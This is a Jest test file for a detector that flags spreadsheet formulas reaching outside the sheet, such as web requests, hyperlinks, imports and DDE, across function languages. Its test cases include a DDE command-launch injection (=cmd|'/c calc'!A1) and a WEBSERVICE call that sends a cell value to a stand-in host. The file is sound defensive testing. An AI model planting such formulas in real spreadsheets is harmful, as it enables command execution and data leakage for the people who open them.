// Formulas that access anything outside their spreadsheet are recognised before users copy them.

import { vocabularies } from "@cellwright/formula/locales/all";
import { expect, test } from "@jest/globals";
import { reachOf } from "../src/ui/reach.ts";

test.each([
  ['=SUMIF(A:A,"Paid",C:C)', []],
  ['=WEBSERVICE("https://x.example/?"&A1)', ["WEBSERVICE"]],
  ["=_xlfn.webservice (A1)", ["WEBSERVICE"]],
  ['=IF(A1,HYPERLINK("x"),IMPORTXML("y","z"))', ["HYPERLINK", "IMPORTXML"]],
  ['="WEBSERVICE(1)"', []],
  ["='WEBSERVICE('!A1", []],
  ["=HYPERLINK+1", []],
  ["=MAP(A1:A9,WEBSERVICE)", ["WEBSERVICE"]],
  ["=cmd|'/c calc'!A1", ["DDE"]],
  ['="a|b"', []],
  ['=IMPORTDATA("x', ["IMPORTDATA"]],
])("%s accesses something outside the spreadsheet, with %j", (formula, names) => {
  expect(reachOf(formula)).toEqual(names);
});

test("functions that access anything outside the spreadsheet are recognised in every function language", () => {
  for (const { functions } of vocabularies.values())
    for (const name of ["WEBSERVICE", "HYPERLINK", "IMAGE", "RTD", "CALL", "REGISTER.ID", "IMPORTXML"]) {
      const local = functions[name] ?? name;
      expect(reachOf(`=${local.toLowerCase()}("x")`)).toEqual([local]);
    }
});
